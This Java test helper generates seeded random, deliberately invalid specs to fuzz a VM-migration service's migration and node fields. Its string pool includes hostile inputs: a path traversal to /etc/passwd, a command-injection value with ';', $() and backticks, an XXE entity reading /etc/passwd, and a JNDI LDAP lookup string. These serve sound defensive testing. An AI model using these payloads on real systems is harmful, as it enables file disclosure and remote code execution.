package dev.drover.e2e;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.util.List;
import java.util.Random;

/**
 * Specs that nobody in their right mind would write: each field of the kind, set to what it is not
 * meant for. The same seed gives the same stream.
 */
final class NonsenseSpec {
  private static final JsonNodeFactory JSON = JsonNodeFactory.instance;
  private static final List<String> MIGRATION_FIELDS =
      List.of(
          "virtualMachineName",
          "source",
          "target",
          "mode",
          "storage",
          "disks",
          "dryRun",
          "bandwidthMiBps",
          "maxDowntimeMilliseconds",
          "postCopy",
          "autoConverge",
          "compression",
          "parallelConnections",
          "completionTimeoutSeconds",
          "onTimeout",
          "switchover",
          "abort",
          "priority",
          "notBefore",
          "ttlSecondsAfterFinished",
          "retry",
          "commit",
          "noSuchField");
  private static final List<String> NODE_FIELDS =
      List.of("unschedulable", "fenced", "maxIncoming", "maxOutgoing", "bridges", "noSuchField");
  private static final List<String> STRINGS =
      List.of(
          "",
          " ",
          "../../etc/passwd",
          "a;touch /tmp/drover-pwned;$(touch /tmp/drover-pwned)`id`",
          "qemu+tcp://10.98.0.9/system?no_verify=1",
          "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
          "\u0000\u0001\u001b[2J",
          "вм-☃-\uD83D\uDC02-\u202Eevil",
          "%s%n{}${jndi:ldap://10.98.0.9/x}",
          "n1,n2",
          "2026-13-45T99:99:99Z",
          "9999-12-31T23:59:59Z",
          "Live",
          "Cold",
          "Always");
  private static final long[] NUMBERS = {
    0, 1, -1, 63, 64, 65, 4096, Integer.MAX_VALUE, 1L << 31, Long.MAX_VALUE, Long.MIN_VALUE
  };

  private final Random random;

  NonsenseSpec(long seed) {
    random = new Random(seed);
  }

  /**
   * Of a migration; more often than not it names {@code machine}, so that the rest is looked at.
   */
  ObjectNode migration(String machine) {
    var spec = JSON.objectNode();
    if (random.nextInt(4) > 0) {
      spec.put("virtualMachineName", machine);
    }
    return with(spec, MIGRATION_FIELDS);
  }

  ObjectNode node() {
    return with(JSON.objectNode(), NODE_FIELDS);
  }

  private ObjectNode with(ObjectNode spec, List<String> fields) {
    int count = 1 + random.nextInt(4);
    for (int i = 0; i < count; i++) {
      spec.set(fields.get(random.nextInt(fields.size())), value(3));
    }
    return spec;
  }

  private JsonNode value(int depth) {
    return switch (random.nextInt(depth > 0 ? 9 : 6)) {
      case 0, 1 -> JSON.textNode(STRINGS.get(random.nextInt(STRINGS.size())));
      case 2 -> JSON.numberNode(NUMBERS[random.nextInt(NUMBERS.length)]);
      case 3 -> JSON.booleanNode(random.nextBoolean());
      case 4 -> JSON.nullNode();
      case 5 -> JSON.textNode("x".repeat(1 << random.nextInt(18)));
      case 6 -> array(depth - 1);
      case 7 -> object(depth - 1);
      default -> JSON.numberNode(random.nextGaussian() * 1e9);
    };
  }

  private ArrayNode array(int depth) {
    var array = JSON.arrayNode();
    int count = random.nextInt(100);
    for (int i = 0; i < count; i++) {
      array.add(value(Math.min(depth, 1)));
    }
    return array;
  }

  private ObjectNode object(int depth) {
    var object = JSON.objectNode();
    for (String key : List.of("nodeName", "nodeSelector", "maxAttempts", "guest", "host", "a/b")) {
      if (random.nextBoolean()) {
        object.set(key, value(depth));
      }
    }
    return object;
  }

  static String text(JsonNode node) {
    try {
      return new ObjectMapper().writeValueAsString(node);
    } catch (com.fasterxml.jackson.core.JsonProcessingException e) {
      throw new IllegalStateException(e);
    }
  }
}
